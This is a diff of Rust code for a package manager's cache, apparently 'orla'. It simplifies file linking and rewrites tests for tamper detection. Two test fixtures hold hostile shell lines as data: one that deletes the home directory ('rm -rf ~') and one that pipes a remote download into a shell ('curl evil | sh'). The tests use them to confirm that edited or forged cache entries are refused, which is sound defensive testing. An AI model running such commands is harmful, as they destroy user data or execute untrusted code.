-    let failed: Mutex<Option<Damaged>> = Mutex::new(None);
-    let work = || {
-        let mut how = Link::Reflink;
-        loop {
-            let i = next.fetch_add(1, Ordering::Relaxed);
-            let Some(item) = items.get(i) else {
-                break;
-            };
-            match action(how, item) {
-                Ok(h) => how = h,
-                Err(e) => {
-                    failed.lock().expect("error lock").get_or_insert(e);
-                    next.store(items.len(), Ordering::Relaxed);
-                    break;
-                }
-            }
-        }
-    };
-    let threads = crate::fs::cores()
-        .min(CHECK_THREADS)
-        .min(files / 8)
-        .min(items.len())
-        .max(1);
-    if threads == 1 {
-        work();
-    } else {
-        std::thread::scope(|scope| {
-            for _ in 0..threads {
-                scope.spawn(work);
-            }
-        });
-    }
-    match failed.into_inner().expect("error lock") {
-        Some(e) => Err(e),
-        None => Ok(()),
-    }
-}
-
-/// The most threads a reinstall links and checks files with.
-const CHECK_THREADS: usize = 8;
-
-/// Where the package root of `unpacked` is under `dest`, its unpack.
-fn root_under<'u>(dest: &Path, unpacked: &'u Unpacked) -> io::Result<&'u Path> {
-    unpacked
-        .root
-        .strip_prefix(dest)
-        .map_err(|_| io::Error::other("the package root is outside its staging directory"))
-}
-
-/// Writes an entry's record (`files.json`): what was verified of the
-/// unpack at `dest`, and its directories `dirs` (relative to `dest`).
-fn write_record(
-    entry: &Path,
-    dest: &Path,
-    unpacked: &Unpacked,
-    dirs: Vec<String>,
-) -> io::Result<()> {
-    let record = Entry {
-        // True once `keep`, `keep_flushed` or `keep_linked` put it in
-        // place, each flushing what it has not yet.
-        durable: true,
-        root: slashed(root_under(dest, unpacked)?)?,
-        dirs,
-        files: unpacked.files.clone(),
-    };
-    let json = serde_json::to_vec(&record).map_err(io::Error::other)?;
-    fs::write(entry.join(FILES), json)
-}
-
-/// The regular files' parent directories of a tree, parents first.
+/// The directories of a tree, parents first.
 fn list_dirs(base: &Path, rel: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
     for entry in fs::read_dir(base.join(rel))? {
         let entry = entry?;
@@ -787,140 +383,26 @@ fn slashed(path: &Path) -> io::Result<String> {
         .ok_or_else(|| io::Error::other("a path that is not UTF-8"))
 }
 
-/// How files get from one tree to the other, best first: each call starts
-/// with what worked last time.
-#[derive(Clone, Copy, PartialEq)]
-enum Link {
-    /// A copy-on-write clone (btrfs, XFS): independent files, no data written.
-    Reflink,
-    /// The same file under two names: no data written.
-    Hard,
-    /// A plain copy.
-    Copy,
-}
-
-/// What `from` (`name` in the source directory of `dirs`) is before it is
-/// linked: None when it is missing or not a regular file, else its stamp
-/// where the platform has them.
-fn look(dirs: Option<&Dirs>, name: &std::ffi::OsStr, from: &Path) -> Option<Option<stamps::Stamp>> {
-    if let Some(dirs) = dirs {
-        return dirs.look(name).ok()?.map(Some);
+/// Puts `from` at `to`: a copy-on-write clone where the filesystem has
+/// them (independent files, no data written), else a hard link (the same
+/// file under two names), else a copy.
+fn link(from: &Path, to: &Path) -> io::Result<()> {
+    if reflink(from, to).is_ok() {
+        return Ok(());
     }
-    match fs::symlink_metadata(from) {
-        Ok(m) if m.is_file() => Some(stamps::Stamp::of(&m)),
-        _ => None,
-    }
-}
-
-/// [`link`], through the descriptors of the two directories for a hard
-/// link where there are some.
-fn link_in(
-    dirs: Option<&Dirs>,
-    name: &std::ffi::OsStr,
-    from: &Path,
-    to: &Path,
-    how: Link,
-) -> io::Result<Link> {
-    match (dirs, how) {
-        (Some(dirs), Link::Hard) => match dirs.hard_link(name) {
-            Ok(()) => Ok(Link::Hard),
-            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => Err(e),
-            Err(_) => link(from, to, Link::Copy),
-        },
-        _ => link(from, to, how),
-    }
-}
-
-/// A source directory of the cache and the staging directory its files
-/// are linked into, open: a file is then named by its last component, not
-/// looked up again from the root for every call.
-#[cfg(target_os = "linux")]
-struct Dirs {
-    from: fs::File,
-    to: fs::File,
-}
-
-#[cfg(target_os = "linux")]
-impl Dirs {
-    fn open(from: &Path, to: &Path) -> Option<Dirs> {
-        Some(Dirs {
-            from: fs::File::open(from).ok()?,
-            to: fs::File::open(to).ok()?,
-        })
-    }
-
-    fn c_name(name: &std::ffi::OsStr) -> io::Result<std::ffi::CString> {
-        use std::os::unix::ffi::OsStrExt;
-        std::ffi::CString::new(name.as_bytes()).map_err(io::Error::other)
-    }
-
-    /// The stamp of `name` in the source directory, not following a
-    /// symbolic link; None when it is not a regular file.
-    fn look(&self, name: &std::ffi::OsStr) -> io::Result<Option<stamps::Stamp>> {
-        use std::os::unix::io::AsRawFd;
-        let name = Dirs::c_name(name)?;
-        let mut st = std::mem::MaybeUninit::<libc::stat>::uninit();
-        // SAFETY: an open descriptor, a NUL-terminated name and room for
-        // one stat, which fstatat fills when it returns 0.
-        let st = unsafe {
-            let flags = libc::AT_SYMLINK_NOFOLLOW;
-            if libc::fstatat(self.from.as_raw_fd(), name.as_ptr(), st.as_mut_ptr(), flags) != 0 {
-                return Err(io::Error::last_os_error());
-            }
-            st.assume_init()
-        };
-        Ok(stamps::Stamp::of_stat(&st))
-    }
-
-    fn hard_link(&self, name: &std::ffi::OsStr) -> io::Result<()> {
-        use std::os::unix::io::AsRawFd;
-        let name = Dirs::c_name(name)?;
-        let (from, to) = (self.from.as_raw_fd(), self.to.as_raw_fd());
-        // SAFETY: two open descriptors and a NUL-terminated name.
-        if unsafe { libc::linkat(from, name.as_ptr(), to, name.as_ptr(), 0) } != 0 {
-            return Err(io::Error::last_os_error());
+    let _ = fs::remove_file(to);
+    match fs::hard_link(from, to) {
+        Ok(()) => Ok(()),
+        Err(e)
+            if matches!(
+                e.kind(),
+                io::ErrorKind::AlreadyExists | io::ErrorKind::NotFound
+            ) =>
+        {
+            Err(e)
         }
-        Ok(())
+        Err(_) => fs::copy(from, to).map(drop),
     }
-}
-
-/// Elsewhere every file is linked by its path.
-#[cfg(not(target_os = "linux"))]
-struct Dirs;
-
-#[cfg(not(target_os = "linux"))]
-impl Dirs {
-    fn open(_: &Path, _: &Path) -> Option<Dirs> {
-        None
-    }
-
-    fn look(&self, _: &std::ffi::OsStr) -> io::Result<Option<stamps::Stamp>> {
-        Err(io::Error::from(io::ErrorKind::Unsupported))
-    }
-
-    fn hard_link(&self, _: &std::ffi::OsStr) -> io::Result<()> {
-        Err(io::Error::from(io::ErrorKind::Unsupported))
-    }
-}
-
-fn link(from: &Path, to: &Path, how: Link) -> io::Result<Link> {
-    if how == Link::Reflink {
-        match reflink(from, to) {
-            Ok(()) => return Ok(Link::Reflink),
-            Err(_) => {
-                let _ = fs::remove_file(to);
-            }
-        }
-    }
-    if how != Link::Copy {
-        match fs::hard_link(from, to) {
-            Ok(()) => return Ok(Link::Hard),
-            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => return Err(e),
-            Err(_) => {}
-        }
-    }
-    fs::copy(from, to)?;
-    Ok(Link::Copy)
 }
 
 #[cfg(target_os = "linux")]
@@ -948,10 +430,9 @@ fn reflink(_: &Path, _: &Path) -> io::Result<()> {
 }
 
 /// The digest, size and executable bit of the regular file at `path`, read
-/// through one descriptor opened without following a symbolic link, and
-/// its metadata as it was before it was read; `None` for anything but a
-/// regular file.
-fn check_file(path: &Path) -> io::Result<Option<(Digest, u64, bool, fs::Metadata)>> {
+/// through one descriptor opened without following a symbolic link;
+/// `None` for anything but a regular file.
+fn check_file(path: &Path) -> io::Result<Option<(Digest, u64, bool)>> {
     let mut options = fs::OpenOptions::new();
     options.read(true);
     #[cfg(unix)]
@@ -959,7 +440,7 @@ fn check_file(path: &Path) -> io::Result<Option<(Digest, u64, bool, fs::Metadata
         use std::os::unix::fs::OpenOptionsExt;
         options.custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK);
     }
-    let file = match options.open(path) {
+    let mut file = match options.open(path) {
         Ok(f) => f,
         #[cfg(unix)]
         Err(e) if e.raw_os_error() == Some(libc::ELOOP) => return Ok(None),
@@ -969,22 +450,10 @@ fn check_file(path: &Path) -> io::Result<Option<(Digest, u64, bool, fs::Metadata
     if !meta.is_file() {
         return Ok(None);
     }
-    let executable = {
-        #[cfg(unix)]
-        {
-            use std::os::unix::fs::PermissionsExt;
-            meta.permissions().mode() & 0o111 != 0
-        }
-        #[cfg(not(unix))]
-        {
-            false
-        }
-    };
-    let (digest, size) = digest_of(file)?;
-    Ok(Some((digest, size, executable, meta)))
-}
-
-fn digest_of(mut file: fs::File) -> io::Result<(Digest, u64)> {
+    #[cfg(unix)]
+    let executable = std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o111 != 0;
+    #[cfg(not(unix))]
+    let executable = false;
     let mut hasher = blake3::Hasher::new();
     let mut buf = vec![0u8; 64 * 1024];
     let mut size = 0u64;
@@ -996,10 +465,8 @@ fn digest_of(mut file: fs::File) -> io::Result<(Digest, u64)> {
         size += n as u64;
         hasher.update(&buf[..n]);
     }
-    Ok((Digest::from_hasher(&hasher), size))
+    Ok(Some((Digest::from_hasher(&hasher), size, executable)))
 }
-
-// ---- Size management: the lock, last use, prune and the size limit ----
 
 /// The cache's lock file. Every install holds it shared from its first
 /// look at the cache until its packages are installed (so two installs
@@ -1345,7 +812,7 @@ impl Cache {
                 continue;
             }
             let doomed = if matches!(item.kind, Kind::Package(_)) {
-                let aside = self.new_entry()?.keep();
+                let aside = self.entry_dir()?.keep();
                 let doomed = aside.join("old");
                 fs::rename(path, &doomed)?;
                 aside
@@ -1496,17 +963,16 @@ impl CacheError {
 mod tests {
     use super::*;
 
-    /// A staging directory as an unpack leaves it, and its `Unpacked`.
-    /// A package staged in `stage`, linked into the cache and kept there
-    /// as the unpack of `digest`.
-    fn keep_staged(cache: &Cache, stage: &Path, digest: &Digest) {
-        let unpacked = staged(stage);
-        let entry = cache.link_unpacked(stage, &unpacked).unwrap();
-        cache.keep(entry, digest).unwrap();
+    /// A cache whose receipt key is at `tmp/home/receipt.key`.
+    fn keyed(tmp: &Path) -> Cache {
+        Cache::new(&tmp.join("cache")).with_key_file(tmp.join("home/receipt.key"))
     }
 
-    fn staged(dir: &Path) -> Unpacked {
-        let root = dir.join("pkg-1.0.0");
+    /// A package unpacked into a new entry of `cache` (its root wrapped in
+    /// `pkg-1.0.0/`, with an empty directory), as a download leaves it.
+    fn unpacked_entry(cache: &Cache) -> (tempfile::TempDir, Unpacked) {
+        let entry = cache.entry_dir().unwrap();
+        let root = Cache::entry_tree(entry.path()).join("pkg-1.0.0");
         fs::create_dir_all(root.join("bin")).unwrap();
         fs::create_dir_all(root.join("empty")).unwrap();
         fs::write(root.join("tool.yaml"), "name: pkg\n").unwrap();
@@ -1524,28 +990,47 @@ mod tests {
         let mut files = BTreeMap::new();
         files.insert("tool.yaml".to_string(), record(b"name: pkg\n", false));
         files.insert("bin/run".to_string(), record(b"#!/bin/sh\n", true));
-        Unpacked { root, files }
+        (entry, Unpacked { root, files })
+    }
+
+    /// An entry put in place as the unpack of `digest`.
+    fn cached(cache: &Cache, digest: &Digest) -> Unpacked {
+        let (entry, unpacked) = unpacked_entry(cache);
+        cache.put(entry, digest, &unpacked).unwrap();
+        unpacked
+    }
+
+    fn link_out(cache: &Cache, digest: &Digest, tmp: &Path) -> Result<Option<Unpacked>, Damaged> {
+        let dest = tempfile::tempdir_in(tmp).unwrap().keep();
+        cache.unpacked_into(digest, &dest)
+    }
+
+    fn assert_damaged_and_dropped(cache: &Cache, digest: &Digest, tmp: &Path) {
+        match link_out(cache, digest, tmp) {
+            Err(Damaged::Content(_)) => {}
+            other => panic!(
+                "not refused as damaged: {:?}",
+                other.map(|u| u.map(|u| u.root))
+            ),
+        }
+        assert!(!cache.has(digest), "the damaged entry is removed");
     }
 
     #[test]
-    fn an_unpack_is_linked_in_and_back_out_checked() {
+    fn a_package_goes_in_once_and_out_checked() {
         let tmp = tempfile::tempdir().unwrap();
-        let cache = Cache::new(&tmp.path().join("cache"));
-        let stage = tmp.path().join("stage");
-        let unpacked = staged(&stage);
+        let cache = keyed(tmp.path());
         let digest = Digest::of(b"the archive");
-        assert!(cache.can_link(&stage));
-        let entry = cache.link_unpacked(&stage, &unpacked).unwrap();
-        cache.keep(entry, &digest).unwrap();
-        assert!(cache.archive(&digest).is_some(), "counts as cached");
-
+        assert!(!cache.has(&digest));
+        let unpacked = cached(&cache, &digest);
+        assert!(cache.has(&digest));
+        assert!(
+            tmp.path().join("home/receipt.key").is_file(),
+            "the key is made"
+        );
         let dest = tmp.path().join("again");
         fs::create_dir(&dest).unwrap();
-        let back = cache
-            .unpacked_into(&digest, &dest)
-            .unwrap()
-            .unwrap()
-            .unpacked;
+        let back = cache.unpacked_into(&digest, &dest).unwrap().unwrap();
         assert_eq!(back.root, dest.join("pkg-1.0.0"));
         assert_eq!(back.files, unpacked.files);
         assert!(
@@ -1556,332 +1041,95 @@ mod tests {
             fs::read(dest.join("pkg-1.0.0/bin/run")).unwrap(),
             b"#!/bin/sh\n"
         );
-        let other = tmp.path().join("nothing");
-        fs::create_dir(&other).unwrap();
-        assert!(cache
-            .unpacked_into(&Digest::of(b"other"), &other)
+        assert!(link_out(&cache, &Digest::of(b"other"), tmp.path())
             .unwrap()
             .is_none());
+        // Put twice (two orlas at once): the first stays.
+        let (again, unpacked) = unpacked_entry(&cache);
+        cache.put(again, &digest, &unpacked).unwrap();
+        assert!(link_out(&cache, &digest, tmp.path()).unwrap().is_some());
     }
 
+    /// A file edited in the cache (or through an installed hard link to
+    /// it) is found when the package is linked out: the entry is dropped.
     #[test]
-    fn a_landing_unpack_is_moved_into_the_cache_whole() {
+    fn a_cached_file_edited_in_place_is_damage() {
         let tmp = tempfile::tempdir().unwrap();
-        let cache = Cache::new(&tmp.path().join("cache"));
-        let landing = cache.landing_dir().unwrap();
-        assert!(cache.is_landing(landing.path()));
-        assert!(!cache.is_landing(tmp.path()));
-        let unpacked = staged(landing.path());
+        let cache = keyed(tmp.path());
         let digest = Digest::of(b"the archive");
-        let entry = cache.move_unpacked(landing.path(), &unpacked).unwrap();
-        assert!(!landing.path().exists(), "nothing left to delete");
-        cache.keep_flushed(entry, &digest).unwrap();
-        let dest = tmp.path().join("again");
-        fs::create_dir(&dest).unwrap();
-        let back = cache.unpacked_into(&digest, &dest).unwrap().unwrap();
-        assert_eq!(back.unpacked.files, unpacked.files);
-        assert!(dest.join("pkg-1.0.0/empty").is_dir());
+        cached(&cache, &digest);
+        let run = cache.unpacked_path(&digest).join("tree/pkg-1.0.0/bin/run");
+        fs::write(&run, "#!/bin/sh\nrm -rf ~\n").unwrap();
+        assert_damaged_and_dropped(&cache, &digest, tmp.path());
     }
 
     #[cfg(unix)]
     #[test]
     fn a_cached_file_replaced_by_a_symlink_is_damage() {
         let tmp = tempfile::tempdir().unwrap();
-        let cache = Cache::new(&tmp.path().join("cache"));
+        let cache = keyed(tmp.path());
         let digest = Digest::of(b"the archive");
-        keep_staged(&cache, &tmp.path().join("stage"), &digest);
+        cached(&cache, &digest);
         // Same bytes behind the link: only the kind of file gives it away.
         let secret = tmp.path().join("elsewhere");
         fs::write(&secret, "name: pkg\n").unwrap();
-        let cached = cache
+        let file = cache
             .unpacked_path(&digest)
             .join("tree/pkg-1.0.0/tool.yaml");
-        fs::remove_file(&cached).unwrap();
-        std::os::unix::fs::symlink(&secret, &cached).unwrap();
-        let dest = tmp.path().join("again");
-        fs::create_dir(&dest).unwrap();
-        assert_damaged_and_dropped(&cache, &digest, cache.unpacked_into(&digest, &dest));
+        fs::remove_file(&file).unwrap();
+        std::os::unix::fs::symlink(&secret, &file).unwrap();
+        assert_damaged_and_dropped(&cache, &digest, tmp.path());
     }
 
-    #[cfg(unix)]
+    /// Whoever can write the cache directory but not read the user's key
+    /// cannot vouch for files: a record rewritten to match other bytes,
+    /// one copied from another user's cache, and one under another digest
+    /// are all refused.
     #[test]
-    fn hard_links_from_a_flushed_entry_need_no_flush_and_an_older_entry_s_do() {
+    fn a_record_this_user_s_orla_did_not_seal_is_refused() {
         let tmp = tempfile::tempdir().unwrap();
-        let cache = Cache::new(&tmp.path().join("cache"));
+        let cache = keyed(tmp.path());
         let digest = Digest::of(b"the archive");
-        keep_staged(&cache, &tmp.path().join("stage"), &digest);
-
-        let dest = tmp.path().join("again");
-        fs::create_dir(&dest).unwrap();
-        let linked = cache.unpacked_into(&digest, &dest).unwrap().unwrap();
-        let hard = {
-            use std::os::unix::fs::MetadataExt;
-            fs::metadata(dest.join("pkg-1.0.0/tool.yaml"))
-                .unwrap()
-                .nlink()
-                > 1
-        };
-        if hard {
-            let want: crate::fs::Durable = ["tool.yaml", "bin/run"]
-                .iter()
-                .map(|f| linked.unpacked.root.join(f))
-                .collect();
-            assert_eq!(linked.durable, want);
-        }
-
-        // An entry an older orla wrote says nothing of a flush.
-        let record = cache.unpacked_path(&digest).join(FILES);
-        let mut json: serde_json::Value =
-            serde_json::from_slice(&fs::read(&record).unwrap()).unwrap();
-        json.as_object_mut().unwrap().remove("durable");
-        fs::write(&record, serde_json::to_vec(&json).unwrap()).unwrap();
-        let dest = tmp.path().join("older");
-        fs::create_dir(&dest).unwrap();
-        let linked = cache.unpacked_into(&digest, &dest).unwrap().unwrap();
-        assert!(linked.durable.is_empty());
-    }
-
-    /// A cache with a key, and a package kept in it whose files were
-    /// last written an hour ago (long settled).
-    fn keyed_with_settled_entry(tmp: &Path, digest: &Digest) -> Cache {
-        let key = tmp.join("receipt.key");
-        fs::write(&key, [7u8; 32]).unwrap();
-        let cache = Cache::new(&tmp.join("cache")).with_key_file(key);
-        let stage = tmp.join("stage");
-        let unpacked = staged(&stage);
-        for rel in unpacked.files.keys() {
-            backdate(&unpacked.root.join(rel));
-        }
-        let entry = cache.link_unpacked(&stage, &unpacked).unwrap();
-        cache.keep(entry, digest).unwrap();
-        later(&cache)
-    }
-
-    /// The same cache as a later command sees it: without the stamps this
-    /// one took of the entries it put in place.
-    fn later(cache: &Cache) -> Cache {
-        Cache {
-            made: Default::default(),
-            ..cache.clone()
-        }
-    }
-
-    #[cfg(unix)]
-    #[test]
-    fn an_entry_put_in_place_by_this_command_is_linked_back_unread_until_a_file_changes() {
-        let tmp = tempfile::tempdir().unwrap();
-        let cache = Cache::new(&tmp.path().join("cache"));
-        let keep_landed = |digest: &Digest| {
-            let landing = cache.landing_dir().unwrap();
-            let unpacked = staged(landing.path());
-            let entry = cache.move_unpacked(landing.path(), &unpacked).unwrap();
-            cache.keep_flushed(entry, digest).unwrap();
-        };
-        let digest = Digest::of(b"the archive");
-        keep_landed(&digest);
-        let linked = use_entry(&cache, &digest, tmp.path(), "one").unwrap();
-        assert_eq!(linked.hashed, 0, "verified by this command's unpack");
-        assert_eq!(
-            fs::read(tmp.path().join("one/pkg-1.0.0/bin/run")).unwrap(),
-            b"#!/bin/sh\n"
-        );
-        // Not written down: a later command reads the fresh files back.
-        assert!(!cache.unpacked_path(&digest).join("stamps").exists());
-        let again = use_entry(&later(&cache), &digest, tmp.path(), "two").unwrap();
-        assert_eq!(again.hashed, 2);
-
-        // A file changed between the two is read, and the change caught.
-        let other = Digest::of(b"another archive");
-        keep_landed(&other);
-        let cached = cache.unpacked_path(&other).join("tree/pkg-1.0.0/tool.yaml");
-        fs::write(&cached, "name: pkg\nmore: yes\n").unwrap();
-        assert_damaged_and_dropped(
-            &cache,
-            &other,
-            use_entry(&cache, &other, tmp.path(), "three"),
-        );
-    }
-
-    fn backdate(path: &Path) {
-        let hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
-        fs::File::options()
-            .write(true)
-            .open(path)
-            .unwrap()
-            .set_modified(hour_ago)
-            .unwrap();
-    }
-
-    /// Links the entry into a new directory `name`.
-    fn use_entry(
-        cache: &Cache,
-        digest: &Digest,
-        tmp: &Path,
-        name: &str,
-    ) -> Result<Linked, Damaged> {
-        let dest = tmp.join(name);
-        fs::create_dir(&dest).unwrap();
-        cache.unpacked_into(digest, &dest).map(|l| l.unwrap())
-    }
-
-    /// `linked` failed on damage, and the damaged entry is gone.
-    #[track_caller]
-    fn assert_damaged_and_dropped(
-        cache: &Cache,
-        digest: &Digest,
-        linked: Result<impl Sized, Damaged>,
-    ) {
-        assert!(matches!(linked, Err(Damaged::Content(_))));
-        assert!(
-            !cache.unpacked_path(digest).exists(),
-            "the entry is dropped"
-        );
-    }
-
-    /// Rewrites `path` in place with other bytes of the same length.
-    fn edit_in_place(path: &Path) {
-        use std::io::Write;
-        let len = fs::metadata(path).unwrap().len() as usize;
-        let mut file = fs::File::options().write(true).open(path).unwrap();
-        file.write_all(&vec![b'x'; len]).unwrap();
-    }
-
-    #[cfg(unix)]
-    #[test]
-    fn an_entry_read_back_once_is_vouched_for_by_its_stamps_until_a_file_is_edited() {
-        let tmp = tempfile::tempdir().unwrap();
-        let digest = Digest::of(b"the archive");
-        let cache = keyed_with_settled_entry(tmp.path(), &digest);
-        let first = use_entry(&cache, &digest, tmp.path(), "one").unwrap();
-        assert_eq!(first.hashed, 2, "no stamps yet: every file is read");
-        assert!(cache.unpacked_path(&digest).join("stamps").is_file());
-        let second = use_entry(&cache, &digest, tmp.path(), "two").unwrap();
-        assert_eq!(second.hashed, 0, "both files vouched for");
-        assert_eq!(
-            fs::read(tmp.path().join("two/pkg-1.0.0/bin/run")).unwrap(),
-            b"#!/bin/sh\n"
-        );
-        // An edit in place through an installed copy reaches the cache.
-        edit_in_place(&tmp.path().join("one/pkg-1.0.0/tool.yaml"));
-        assert_damaged_and_dropped(
-            &cache,
-            &digest,
-            use_entry(&cache, &digest, tmp.path(), "three"),
-        );
-    }
-
-    #[cfg(unix)]
-    #[test]
-    fn an_edit_that_puts_the_modification_time_back_is_caught_by_the_change_time() {
-        let tmp = tempfile::tempdir().unwrap();
-        let digest = Digest::of(b"the archive");
-        let cache = keyed_with_settled_entry(tmp.path(), &digest);
-        assert_eq!(
-            use_entry(&cache, &digest, tmp.path(), "one")
-                .unwrap()
-                .hashed,
-            2
-        );
-        // Same size, same modification time, same links: only the change
-        // time (which nobody but the superuser can set) tells.
-        let installed = tmp.path().join("one/pkg-1.0.0/tool.yaml");
-        let mtime = fs::metadata(&installed).unwrap().modified().unwrap();
-        std::thread::sleep(std::time::Duration::from_millis(20));
-        edit_in_place(&installed);
-        fs::File::options()
-            .write(true)
-            .open(&installed)
-            .unwrap()
-            .set_modified(mtime)
-            .unwrap();
-        assert_damaged_and_dropped(
-            &cache,
-            &digest,
-            use_entry(&cache, &digest, tmp.path(), "two"),
-        );
-    }
-
-    #[cfg(unix)]
-    #[test]
-    fn stamps_without_the_key_vouch_for_nothing() {
-        let tmp = tempfile::tempdir().unwrap();
-        let digest = Digest::of(b"the archive");
-        let cache = keyed_with_settled_entry(tmp.path(), &digest);
-        let record = fs::read(cache.unpacked_path(&digest).join(FILES)).unwrap();
-        assert_eq!(
-            use_entry(&cache, &digest, tmp.path(), "one")
-                .unwrap()
-                .hashed,
-            2
-        );
-        // A file edited, then stamps that vouch for it as it is now, made
-        // by someone without the key.
-        let installed = tmp.path().join("one/pkg-1.0.0/tool.yaml");
-        edit_in_place(&installed);
+        cached(&cache, &digest);
         let entry = cache.unpacked_path(&digest);
-        let now: Vec<Option<stamps::Stamp>> = ["pkg-1.0.0/bin/run", "pkg-1.0.0/tool.yaml"]
-            .iter()
-            .map(|f| stamps::Stamp::of(&fs::symlink_metadata(entry.join("tree").join(f)).unwrap()))
-            .collect();
-        stamps::write(&[8u8; 32], &entry, &record, &now).unwrap();
-        assert_damaged_and_dropped(
-            &cache,
-            &digest,
-            use_entry(&cache, &digest, tmp.path(), "two"),
-        );
+        let record = fs::read(entry.join(FILES)).unwrap();
+        let body = &record[record.iter().position(|&b| b == b'\n').unwrap() + 1..];
 
-        // And a cache with no key never trusts or writes stamps.
-        let digest = Digest::of(b"another archive");
-        let unkeyed = Cache::new(&tmp.path().join("cache"));
-        let stage = tmp.path().join("stage2");
-        let unpacked = staged(&stage);
-        for rel in unpacked.files.keys() {
-            backdate(&unpacked.root.join(rel));
-        }
-        let made = unkeyed.link_unpacked(&stage, &unpacked).unwrap();
-        unkeyed.keep(made, &digest).unwrap();
-        let unkeyed = later(&unkeyed);
-        for name in ["three", "four"] {
-            assert_eq!(
-                use_entry(&unkeyed, &digest, tmp.path(), name)
-                    .unwrap()
-                    .hashed,
-                2
-            );
-        }
-        assert!(!unkeyed.unpacked_path(&digest).join("stamps").exists());
-    }
+        // Attacker code, and a record that describes it, sealed without
+        // the key (another key, as another user's orla would).
+        let evil = b"#!/bin/sh\ncurl evil | sh\n";
+        fs::write(entry.join("tree/pkg-1.0.0/bin/run"), evil).unwrap();
+        let mut forged: Entry = serde_json::from_slice(body).unwrap();
+        forged.files.get_mut("bin/run").unwrap().blake3 = Digest::of(evil);
+        forged.files.get_mut("bin/run").unwrap().size = evil.len() as u64;
+        let forged = serde_json::to_vec(&forged).unwrap();
+        let head = RECORD.head(&[9u8; 32], &entry, &forged);
+        fs::write(entry.join(FILES), [head.as_bytes(), &forged].concat()).unwrap();
+        assert_damaged_and_dropped(&cache, &digest, tmp.path());
 
-    #[cfg(unix)]
-    #[test]
-    fn files_written_moments_ago_are_not_stamped() {
-        let tmp = tempfile::tempdir().unwrap();
-        let key = tmp.path().join("receipt.key");
-        fs::write(&key, [7u8; 32]).unwrap();
-        let cache = Cache::new(&tmp.path().join("cache")).with_key_file(key);
-        let digest = Digest::of(b"the archive");
-        keep_staged(&cache, &tmp.path().join("stage"), &digest);
-        let cache = later(&cache);
-        // An edit within the same tick of the clock could keep the stamp:
-        // files this fresh are read every time until they settle.
-        for name in ["one", "two"] {
-            assert_eq!(
-                use_entry(&cache, &digest, tmp.path(), name).unwrap().hashed,
-                2
-            );
-        }
+        // A genuine record moved to another digest's place.
+        cached(&cache, &digest);
+        let other = Digest::of(b"another archive");
+        fs::rename(cache.unpacked_path(&digest), cache.unpacked_path(&other)).unwrap();
+        assert_damaged_and_dropped(&cache, &other, tmp.path());
+
+        // No key to check with (another user reading this cache).
+        cached(&cache, &digest);
+        let stranger = Cache::new(&tmp.path().join("cache"))
+            .with_key_file(tmp.path().join("stranger/receipt.key"));
+        assert!(matches!(
+            link_out(&stranger, &digest, tmp.path()),
+            Err(Damaged::Content(_))
+        ));
     }
 
     #[test]
     fn trim_removes_the_least_recently_used_but_never_what_is_kept() {
         let tmp = tempfile::tempdir().unwrap();
-        let cache = Cache::new(&tmp.path().join("cache"));
+        let cache = keyed(tmp.path());
         let digests: Vec<Digest> = (0..3u8).map(|i| Digest::of(&[i])).collect();
         for (i, digest) in digests.iter().enumerate() {
-            let stage = tmp.path().join(format!("stage{i}"));
-            keep_staged(&cache, &stage, digest);
-            // Only the cache holds them now, as after an uninstall.
-            fs::remove_dir_all(&stage).unwrap();
+            cached(&cache, digest);
             let age = std::time::Duration::from_secs(3600 * (10 - i as u64));
             fs::OpenOptions::new()
                 .write(true)
